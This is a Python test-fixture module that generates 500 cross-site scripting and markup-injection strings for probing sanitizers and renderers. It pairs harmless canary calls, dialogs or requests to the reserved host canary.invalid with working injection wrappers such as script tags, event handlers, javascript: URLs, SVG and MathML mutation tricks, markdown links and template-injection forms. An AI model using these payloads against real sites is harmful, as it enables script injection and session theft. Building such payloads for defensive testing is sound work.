"""Texts that would run, if a page took them for markup or code: 500 of them, each another.

Each calls `canary`, opens a dialog or asks a host that nobody has, so whatever runs is heard."""

from itertools import islice, product

HOST = "canary.invalid"
COUNT = 500
DEEDS = (
    "canary(1)",
    "alert(1)",
    "top['can'+'ary'](1)",
    f"fetch('//{HOST}/f')",
    f"import('//{HOST}/i.js')",
    f"new Image().src='//{HOST}/p'",
    "setTimeout('canary(1)')",
    "[1].map(canary)",
    "document.write(canary(1))",
    "Function('canary(1)')()",
    f"location='//{HOST}/'",
    f"navigator.sendBeacon('//{HOST}/b')",
)
# What each kind of markup makes of a deed.
KINDS = (
    "<script>{}</script>",
    "</textarea></title></style></noscript><script>{}</script>",
    '"><script>{}</script>',
    "<ScRiPt type=module>{}</sCrIpT>",
    "<img src=x onerror={}>",
    "'\"><img src=x onerror={}//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}" autofocus>x</a>',
    '<a href="java&#10;script:{}">x</a>',
    '<a href="data:text/html,<script>{}</script>">x</a>',
    '<base href="javascript:{};//">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="//canary.invalid/c.css" onload={}>',
    '<style>@import "//canary.invalid/s.css";</style><b style="background:url(//canary.invalid/u)">{}</b>',
    "[x](javascript:{})",
    "[x](<java\nscript:{}>)",
    '[x](https://canary.invalid/"onmouseover="{})',
    "![x](https://canary.invalid/picture.png#{})",
    '![x"onerror="{}](x)',
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    "`<img src=x onerror={}>`",
    "```html\n</code></pre><img src=x onerror={}>\n```",
    "| a |\n|---|\n| <img src=x onerror={}> |",
    "${{{}}} {{{{{}}}}} <%= {} %> #{{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "@[<img src=x onerror={}>]",
    "https://example.org/<img/src=x/onerror={}>",
    "\u2028<img src=x onerror={}>\u202e",
)


def payloads() -> list[str]:
    made = (kind.replace("{}", deed) if kind.count("{}") else kind for deed, kind in product(DEEDS, KINDS))
    return list(islice(dict.fromkeys(made), COUNT))
